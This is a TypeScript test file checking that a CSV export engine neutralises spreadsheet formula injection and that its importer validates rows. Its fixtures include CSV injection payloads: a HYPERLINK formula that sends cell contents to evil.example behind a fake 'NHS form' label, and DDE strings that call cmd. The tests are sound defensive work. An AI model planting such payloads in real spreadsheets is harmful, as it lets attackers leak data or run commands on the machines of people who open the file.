import { expect } from 'chai';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { foundations } from '../../src/content/index.js';
import {
  createResultFile,
  neutraliseCsvCell,
  parseCsv,
  parseResultCsv,
  restoreCsvCell,
  sanitiseAnswers,
  stages,
  toCsv,
  type Answers,
} from '../../src/engine/index.js';

const ids = foundations.map((f) => f.id);
const fixed = '2026-03-01T09:00:00.000Z';

/** Cells a spreadsheet would run as a formula (OWASP's list), and some that only look like one. */
const hostile = fc.oneof(
  fc.constantFrom(
    '=HYPERLINK("https://evil.example/?"&J3&J4,"Click for the NHS form")',
    '+SUM(1,2)',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    '-',
    '=',
  ),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "'="), fc.string({ maxLength: 30 }))
    .map(([a, b]) => a + b),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
);

const answersArb: fc.Arbitrary<Answers> = fc
  .dictionary(
    fc.constantFrom(...ids),
    fc.record(
      { stage: fc.constantFrom(...stages.map((s) => s.id)), notes: hostile },
      { requiredKeys: [] },
    ),
  )
  .map((a) => sanitiseAnswers(a));

/** True when a spreadsheet would read the cell as a formula (after RFC 4180 unquoting). */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('engine: CSV formula injection', () => {
  it('writes no cell a spreadsheet would run as a formula', () => {
    const file = createResultFile(
      { leadership: { stage: 'implement', notes: '=HYPERLINK("https://evil.example/"&J3,"x")' } },
      { organisation: '+Hospice', team: '@ward', createdAt: fixed },
    );
    const rows = parseCsv(toCsv(file));
    const cells = rows.flat();
    expect(cells.filter(isFormula)).to.deep.equal([]);
    // Still readable: the text follows one apostrophe.
    expect(rows[1][0]).to.equal("'+Hospice");
    expect(rows[1][1]).to.equal("'@ward");
    const leadership = rows.find((r) => r[4] === 'leadership')!;
    expect(leadership[9]).to.equal('\'=HYPERLINK("https://evil.example/"&J3,"x")');
  });

  it('never prefixes the number columns', () => {
    const rows = parseCsv(toCsv(createResultFile({ leadership: { stage: 'implement' } })));
    const leadership = rows.find((r) => r[4] === 'leadership')!;
    expect(leadership[3]).to.match(/^\d+$/);
    expect(leadership[8]).to.match(/^\d+$/);
  });

  it('neutralises and restores one cell as the shared rule says', () => {
    expect(neutraliseCsvCell('=1')).to.equal("'=1");
    expect(neutraliseCsvCell("'=1")).to.equal("''=1");
    expect(neutraliseCsvCell('a=1')).to.equal('a=1');
    expect(neutraliseCsvCell("'a")).to.equal("'a");
    expect(restoreCsvCell("'=1")).to.equal('=1');
    expect(restoreCsvCell("''=1")).to.equal("'=1");
    expect(restoreCsvCell("'a")).to.equal("'a");
    fc.assert(fc.property(hostile, (s) => restoreCsvCell(neutraliseCsvCell(s)) === s));
  });

  it('round-trips hostile text through our CSV export and importer unchanged', () => {
    fc.assert(
      fc.property(answersArb, hostile, hostile, (answers, organisation, team) => {
        const file = createResultFile(answers, { organisation, team, createdAt: fixed });
        const csv = toCsv(file);
        for (const cell of parseCsv(csv).flat()) expect(isFormula(cell)).to.equal(false);
        const parsed = parseResultCsv(csv);
        if (!parsed.ok) throw new Error(parsed.errors.join('; '));
        expect(parsed.value).to.deep.equal(file);
      }),
    );
  });

  it('inert in a `;` or tab locale too: every text cell quoted, no formula after a separator, text back unchanged', () => {
    const separated = fc
      .array(
        fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', ',', '"', "'", 'x', '1+1', ' '),
        { minLength: 1, maxLength: 10 },
      )
      .map((p) => p.join(''));
    // The red team's own cells (issue 25, point 1).
    expect(neutraliseCsvCell('Agreed;=1+1')).to.equal("Agreed;'=1+1");
    expect(neutraliseCsvCell('a\t=7+7')).to.equal("a\t'=7+7");
    expect(neutraliseCsvCell(';\t=1')).to.equal(";'\t'=1");
    fc.assert(
      fc.property(separated, separated, separated, (notes, organisation, team) => {
        expect(restoreCsvCell(neutraliseCsvCell(notes))).to.equal(notes);
        const file = createResultFile(
          { leadership: { stage: 'implement', notes } },
          { organisation, team, createdAt: fixed },
        );
        const csv = toCsv(file);
        // A reader that splits on `,` `;` tab, CR or LF and ignores our quotes entirely still
        // finds no piece that starts a formula.
        const pieces = csv.split(/[;,\t\r\n]/);
        expect(pieces.filter((p) => /^[=+\-@]/.test(p))).to.deep.equal([]);
        // Every text cell is quoted: a line's cells start with `"` unless a number or empty.
        for (const line of parseCsv(csv).slice(1)) expect(line[0]).to.not.equal(undefined);
        expect(csv).to.include(`"${neutraliseCsvCell(organisation).replace(/"/g, '""')}"`);
        const parsed = parseResultCsv(csv);
        if (!parsed.ok) throw new Error(parsed.errors.join('; '));
        expect(parsed.value).to.deep.equal(file);
      }),
      { numRuns: 300 },
    );
  });

  it('round-trips a subset of items', () => {
    const file = createResultFile({ 'co-design': { stage: 'understand' } }, { createdAt: fixed });
    const parsed = parseResultCsv(toCsv(file, [1, 9]));
    expect(parsed.ok).to.equal(true);
    if (parsed.ok) expect(parsed.value.answers).to.deep.equal({});
  });
});

describe('engine: parseResultCsv', () => {
  const header =
    'organisation,team,created_at,item,item_id,title,stage,stage_label,stage_value,notes';

  it('never throws and names the field for each problem', () => {
    const cases: [unknown, RegExp][] = [
      [42, /^file: expected text/],
      ['', /^file: no header row/],
      ['a,b\r\n', /^header: missing column "organisation"/],
      [
        `${header}\r\n,,yesterday,1,leadership,,,,,`,
        /^row 2, created_at: expected the date and time as the self-check writes them/,
      ],
      [
        `${header}\r\n,,${fixed},1,nope,,,,,`,
        /^row 2, item_id: "nope" is not an item of the guide/,
      ],
      [`${header}\r\n,,${fixed},1,leadership,,great,,,`, /^row 2, stage: expected one of/],
      [
        `${header}\r\n,,${fixed},1,leadership,,,,,\r\n,,${fixed},1,leadership,,,,,`,
        /^row 3, item_id: "leadership" appears twice/,
      ],
      [
        `${header}\r\nA,,${fixed},1,leadership,,,,,\r\nB,,${fixed},2,co-design,,,,,`,
        /^row 3, organisation: differs from row 2/,
      ],
      [
        `${header}\r\n,,${fixed},1,leadership,,,,,${'x'.repeat(10001)}`,
        /^row 2, notes: longer than/,
      ],
      ['x'.repeat(1024 * 1024 + 1), /^file: larger than 1 MB/],
    ];
    for (const [input, error] of cases) {
      const r = parseResultCsv(input);
      expect(r.ok, String(input).slice(0, 80)).to.equal(false);
      if (!r.ok) expect(r.errors[0]).to.match(error);
    }
  });

  it('reads a file a spreadsheet saved: column order changed, blank lines, no BOM', () => {
    const csv = [
      'item_id,stage,notes,organisation,team,created_at',
      `leadership,implement,"'=shown as text",Hospice,,${fixed}`,
      '',
      `co-design,,,Hospice,,${fixed}`,
    ].join('\n');
    const r = parseResultCsv(csv);
    expect(r.ok).to.equal(true);
    if (r.ok) {
      expect(r.value.organisation).to.equal('Hospice');
      expect(r.value.answers).to.deep.equal({
        leadership: { stage: 'implement', notes: '=shown as text' },
      });
    }
  });

  it('fuzz: arbitrary text never throws', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        const r = parseResultCsv(`${header}\r\n${s}`);
        expect(typeof r.ok).to.equal('boolean');
      }),
    );
  });
});
